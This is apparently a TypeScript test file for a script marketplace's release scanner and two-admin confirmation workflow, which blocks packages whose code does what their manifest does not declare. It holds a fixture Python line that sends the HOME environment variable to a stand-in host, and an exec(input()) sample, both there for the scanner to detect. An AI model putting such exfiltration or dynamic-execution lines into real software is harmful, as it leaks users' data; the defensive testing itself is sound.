import { env } from 'cloudflare:workers'
import { beforeEach, describe, expect, test } from 'vitest'
import type { ProductDetail } from '#shared/catalogue/contract.ts'
import { DAY, MINUTE } from '#shared/core/time.ts'
import type { Comparison, ScanReport } from '#shared/scan/contract.ts'
import { EVERY_MINUTE } from '../../cron.ts'
import { openDb } from '../../db/client.ts'
import { acquireLease, releaseLease } from '../../db/job-lease.ts'
import { aUser, type SignedIn, visitor } from '../../testing/clients.ts'
import { aProduct, type MadeProduct } from '../../testing/products.ts'
import { bought } from '../../testing/purchases.ts'
import { mailsQueuedTo } from '../../testing/readers.ts'
import { ring } from '../../testing/shop.ts'
import { callAs, PRODUCTS, sendFile, signDraft } from '../../testing/uploads.ts'
import { watched } from '../../testing/watched.ts'
import { aScriptZip, aZip } from '../../testing/zips.ts'

const RELEASES = '/api/secure-management/releases'
const HIDDEN =
  'import os\nimport urllib.request\nurllib.request.urlopen("https://collect.example/?" + os.environ["HOME"])\n'

let [uploader, second, product]: [SignedIn, SignedIn, MadeProduct] = [] as never

beforeEach(async () => {
  uploader = await aUser({ admin: true })
  second = await aUser({ admin: true })
  await env.DB.prepare('UPDATE users SET admin_since = ? WHERE id IN (?, ?)')
    .bind(Date.now() - 8 * DAY, uploader.id, second.id)
    .run()
  product = await aProduct()
})

/** A signed draft of an archive. */
async function draft(bytes: Uint8Array, fields: Record<string, string> = {}) {
  const { data } = await sendFile(uploader, product.id, bytes, { fields })
  const [release] = data.releases
  if (!release) throw new Error('There is no draft')
  await signDraft(uploader, product.id, release.id)
  return release
}
const publish = (id: number, admin = uploader) =>
  callAs(admin, 'POST', `${RELEASES}/${id}/publish`, { silent: true })
const confirm = (id: number, admin: SignedIn, reason = 'Read by two people, line by line') =>
  callAs(admin, 'POST', `${RELEASES}/${id}/confirmation`, { reason })
const shown = async () => (await visitor().get<ProductDetail>(`/api/products/${product.id}`)).data
const scanOf = async (id: number) =>
  (await callAs(uploader, 'GET', `${PRODUCTS}/${product.id}`)).data.releases.find((one) => one.id === id)
    ?.scan
const newestEntry = async () =>
  JSON.parse(
    (
      await env.DB.prepare('SELECT entry FROM log_entries ORDER BY rowid DESC LIMIT 1').first<{
        entry: string
      }>()
    )?.entry ?? '{}',
  )

// invariant: published-is-declared
describe('a release whose code does what its manifest does not declare', () => {
  test('is not published, and the draft names each finding with its line', async () => {
    const release = await draft(aScriptZip(HIDDEN))
    expect(release.scan).toMatchObject({
      undeclaredCount: 2,
      isReady: false,
      toConfirm: [],
      confirmation: null,
    })
    expect(release.scan?.undeclared).toEqual([
      expect.objectContaining({ kind: 'network', value: 'collect.example', path: 'main.py', line: 3 }),
      expect.objectContaining({ kind: 'environment', value: 'HOME', path: 'main.py', line: 3 }),
    ])
    expect(await publish(release.id)).toMatchObject({
      status: 409,
      message: expect.stringContaining('found 2 things that windfall.json does not declare'),
    })
    expect((await shown()).fileVersion).toBe('1.0')
  })

  test('is published once its manifest declares it, and the product shows what it declares', async () => {
    const release = await draft(aScriptZip(HIDDEN, { network: ['collect.example'], environment: ['HOME'] }))
    expect(release.scan).toMatchObject({ undeclaredCount: 0, isReady: true })
    expect((await publish(release.id)).status).toBe(200)
    expect((await shown()).scan).toMatchObject({
      manifest: { network: ['collect.example'], environment: ['HOME'], keys: 'none' },
      findingCount: 2,
      undeclaredCount: 0,
      confirmation: null,
    })
    const { data } = await visitor().get<ScanReport>(`/api/products/${product.id}/scan`)
    expect(data).toMatchObject({
      version: '1.1',
      scan: { files: 1 },
      texts: [{ path: 'main.py', isCut: false }],
    })
    expect(data.scan.findings.map(({ kind, isDeclared }) => [kind, isDeclared])).toEqual([
      ['network', true],
      ['environment', true],
    ])
    expect(await newestEntry()).not.toHaveProperty('confirmed')
  })

  test('is published after another admin confirmed it, by an admin who did not; the reason is in the log', async () => {
    const { id } = await draft(aScriptZip(HIDDEN))
    expect((await confirm(id, uploader)).status).toBe(403)
    expect((await confirm(id, second, 'short')).status).toBe(400)
    const confirmed = await confirm(id, second)
    expect([confirmed.status, confirmed.message]).toEqual([200, 'Scan Confirmed'])
    expect(await scanOf(id)).toMatchObject({
      isReady: true,
      confirmation: { reason: 'Read by two people, line by line' },
    })
    expect(await confirm(id, second)).toMatchObject({ status: 409 })
    expect(await publish(id, second)).toMatchObject({
      status: 409,
      message: expect.stringContaining('another admin must publish'),
    })
    expect((await publish(id)).status).toBe(200)
    expect(await newestEntry()).toMatchObject({
      type: 'publish',
      confirmed: 'Read by two people, line by line',
    })
    expect((await shown()).scan).toMatchObject({
      undeclaredCount: 2,
      confirmation: { reason: 'Read by two people, line by line' },
    })
  })

  test('is not confirmed by an admin of less than seven days, so a thief who makes one cannot publish it', async () => {
    const { id } = await draft(aScriptZip(HIDDEN))
    const fresh = await aUser({ admin: true })
    expect(await confirm(id, fresh)).toMatchObject({
      status: 403,
      message: expect.stringContaining('7 days'),
    })
    expect((await publish(id, fresh)).status).toBe(409)
  })

  test('is not confirmed where a new admin uploaded it, so a thief who makes one cannot publish it that way', async () => {
    const fresh = await aUser({ admin: true })
    const { data } = await sendFile(fresh, product.id, aScriptZip(HIDDEN))
    const id = data.releases[0]?.id ?? 0
    expect(await confirm(id, second)).toMatchObject({
      status: 403,
      message: expect.stringContaining('7 days'),
    })
    await env.DB.prepare('UPDATE users SET admin_since = 1 WHERE id = ?').bind(fresh.id).run()
    expect((await confirm(id, second)).status).toBe(200)
  })

  test('is scanned from its stored file where it has no scan', async () => {
    const { id } = await draft(aScriptZip(HIDDEN))
    await env.DB.prepare('DELETE FROM release_scans WHERE release_id = ?').bind(id).run()
    expect(await publish(id)).toMatchObject({
      status: 409,
      message: expect.stringContaining('not scanned yet'),
    })
    expect(await confirm(id, second)).toMatchObject({ status: 409 })
    expect(await callAs(uploader, 'POST', `${RELEASES}/${id}/scan`)).toMatchObject({
      status: 200,
      message: 'Release Scanned',
    })
    expect(await scanOf(id)).toMatchObject({ undeclaredCount: 2 })
    expect((await confirm(id, uploader)).status).toBe(403)
    expect((await confirm(id, second)).status).toBe(200)
    // A confirmation is not lost by another scan.
    expect((await callAs(uploader, 'POST', `${RELEASES}/${id}/scan`)).status).toBe(409)
  })

  test('is not scanned, nor compared, from other bytes that stand in its place in the file store', async () => {
    const { id } = await draft(aScriptZip(HIDDEN))
    const row = await env.DB.prepare(
      'SELECT script_id, script_path, version FROM script_releases WHERE id = ?',
    )
      .bind(id)
      .first<{ script_id: number; script_path: string; version: string }>()
    await env.DB.prepare('DELETE FROM release_scans WHERE release_id = ?').bind(id).run()
    const compare = `/api/products/${row?.script_id}/compare?from=${row?.version}&to=${row?.version}`
    expect((await uploader.get(compare)).status).toBe(200)
    await env.FILES.put(row?.script_path ?? '', aScriptZip('print("harmless")\n'))
    expect(await callAs(uploader, 'POST', `${RELEASES}/${id}/scan`)).toMatchObject({
      status: 503,
      message: expect.stringContaining('is damaged'),
    })
    expect((await uploader.get(compare)).status).toBe(503)
    const scans = await env.DB.prepare('SELECT 1 FROM release_scans WHERE release_id = ?').bind(id).first()
    expect(scans).toBeNull()
  })

  test('is deleted with its scan', async () => {
    const { id } = await draft(aScriptZip(HIDDEN))
    expect((await callAs(uploader, 'DELETE', `${RELEASES}/${id}`)).status).toBe(200)
    const left = await env.DB.prepare('SELECT count(*) AS rows FROM release_scans WHERE release_id = ?')
      .bind(id)
      .first()
    expect(left).toEqual({ rows: 0 })
  })
})

test('every version that declares dynamic code waits for another admin', async () => {
  const { id, scan } = await draft(aScriptZip('exec(input())\n', { dynamicCode: ['exec'] }))
  expect(scan).toMatchObject({
    undeclaredCount: 0,
    isReady: false,
    toConfirm: [{ kind: 'dynamic-code', value: 'exec' }],
  })
  expect((await publish(id)).status).toBe(409)
  expect((await confirm(id, second)).status).toBe(200)
  expect((await publish(id)).status).toBe(200)
  // The same declaration says nothing about what the next version runs.
  const next = await draft(
    aScriptZip('exec(open("more.txt").read())\n', { dynamicCode: ['exec'], reads: ['more.txt'] }),
  )
  expect((await publish(next.id)).status).toBe(409)
  expect((await confirm(next.id, second)).status).toBe(200)
  expect((await publish(next.id)).status).toBe(200)
})

test('a publication is decided in one read and one write, and its product and scan are each shown in one read', async () => {
  const watch = watched()
  uploader = await aUser({ admin: true, bindings: watch.bindings })
  const { id } = await draft(aScriptZip('print("one")\n'))
  const tripsOf = async (act: () => Promise<{ status: number }>) => {
    watch.trips = 0
    expect((await act()).status).toBe(200)
    return watch.trips
  }
  // Another run places entries in the log, so that only the decision is counted.
  const db = openDb(env.DB)
  const lease = await acquireLease(db, 'log', MINUTE, Date.now())
  if (!lease) throw new Error('The log is busy')
  // Besides the two: the session, the question for the lease, the product in the response, and the catalogue's revision.
  expect(await tripsOf(() => publish(id))).toBe(6)
  await releaseLease(db, lease, { completed: false }, Date.now())
  await ring(EVERY_MINUTE)
  // The place in the log: one read, which acquires the lease, and one write, which releases it.
  const next = await draft(aScriptZip('print("two")\n'))
  expect(await tripsOf(() => publish(next.id))).toBe(7)
  const reader = visitor(watch.bindings)
  // The whole catalogue.
  expect(await tripsOf(() => reader.get(`/api/products/${product.id}`))).toBe(1)
  expect(await tripsOf(() => reader.get(`/api/products/${product.id}/scan`))).toBe(1)
})

test('a version that handles private keys is not published, also after a confirmation', async () => {
  const { id } = await draft(aScriptZip(HIDDEN, { keys: 'signs-locally' }))
  expect((await confirm(id, second)).status).toBe(200)
  expect(await publish(id)).toMatchObject({ status: 409, message: expect.stringContaining('private keys') })
})

describe('a version that declares more than the one that is offered', () => {
  const quiet = aScriptZip('print("one")\n')
  const louder = aScriptZip('import os\nprint("two", os.environ["PROXY"])\n', { environment: ['PROXY'] })

  test('is published only after another admin confirmed it, and its owners are told what it does more', async () => {
    const owner = await aUser()
    await env.DB.prepare('UPDATE users SET email_verified_at = 1 WHERE id = ?').bind(owner.id).run()
    await bought(owner, product.id)
    expect((await publish((await draft(quiet)).id)).status).toBe(200)
    const { id, scan } = await draft(louder)
    expect(scan).toMatchObject({
      undeclaredCount: 0,
      isReady: false,
      toConfirm: [{ kind: 'environment', value: 'PROXY' }],
    })
    expect(await publish(id)).toMatchObject({
      status: 409,
      message: expect.stringContaining('another admin must confirm'),
    })
    expect((await confirm(id, second)).status).toBe(200)
    const published = await callAs(uploader, 'POST', `${RELEASES}/${id}/publish`, { silent: false })
    expect(published.status).toBe(200)
    await ring(EVERY_MINUTE)
    const mails = await mailsQueuedTo(owner.email, 'new-release')
    expect(JSON.parse(mails.at(-1)?.data ?? '{}')).toMatchObject({
      version: '1.2',
      riskier: [{ kind: 'environment', value: 'PROXY' }],
    })
  })

  test('needs the confirmation also where that one is withdrawn first, which is published again without one', async () => {
    const first = await draft(quiet)
    expect((await publish(first.id)).status).toBe(200)
    const { id } = await draft(louder)
    for (const offered of [first.id, product.release.id])
      expect(
        (await callAs(uploader, 'POST', `${RELEASES}/${offered}/yank`, { reason: 'A break' })).status,
      ).toBe(200)
    expect(await publish(id)).toMatchObject({ status: 409 })
    expect((await confirm(id, second)).status).toBe(200)
    expect((await publish(id)).status).toBe(200)
    expect((await publish(first.id)).status).toBe(200)
  })

  test('needs the confirmation also where a version without a manifest was published in between', async () => {
    expect((await publish((await draft(quiet)).id)).status).toBe(200)
    const bare = await draft(aZip([{ name: 'notes.txt', data: new TextEncoder().encode('Read me') }]))
    expect((await confirm(bare.id, second)).status).toBe(200)
    expect((await publish(bare.id)).status).toBe(200)
    const { id, scan } = await draft(louder)
    expect(scan).toMatchObject({ isReady: false, toConfirm: [{ kind: 'environment', value: 'PROXY' }] })
    expect((await publish(id)).status).toBe(409)
  })

  test('needs the confirmation also where only beta versions were published, also to be offered to everyone', async () => {
    const beta = { isBeta: 'true' }
    expect((await publish((await draft(quiet, beta)).id)).status).toBe(200)
    const { id, scan } = await draft(louder, beta)
    expect(scan).toMatchObject({ isReady: false, toConfirm: [{ kind: 'environment', value: 'PROXY' }] })
    expect((await publish(id)).status).toBe(409)
    expect((await confirm(id, second)).status).toBe(200)
    expect((await publish(id)).status).toBe(200)
    expect((await callAs(uploader, 'POST', `${RELEASES}/${id}/promote`, { silent: true })).status).toBe(200)
  })

  test('is compared with it by its owner and by an admin: what it declares, and a unified diff of each file', async () => {
    const owner = await aUser()
    await bought(owner, product.id)
    await publish((await draft(quiet)).id)
    const { id } = await draft(louder)
    const compare = (client: SignedIn) =>
      client.get<Comparison>(`/api/products/${product.id}/compare?from=1.1&to=1.2`)
    // A draft is compared by admins only.
    expect((await compare(owner)).status).toBe(404)
    expect((await compare(uploader)).data.more).toEqual([{ kind: 'environment', value: 'PROXY' }])
    await confirm(id, second)
    await publish(id)
    const { data } = await compare(owner)
    expect(data).toMatchObject({
      from: '1.1',
      to: '1.2',
      more: [{ kind: 'environment', value: 'PROXY' }],
      less: [],
    })
    expect(data.files.map(({ path, change }) => [path, change])).toEqual([
      ['main.py', 'changed'],
      ['windfall.json', 'changed'],
    ])
    expect(data.files[0]?.diff).toMatch(/^@@ /)
    expect(data.files[0]?.diff).toContain('-print("one")\n+import os\n+print("two", os.environ["PROXY"])')
    expect((await compare(await aUser())).status).toBe(403)
  })
})
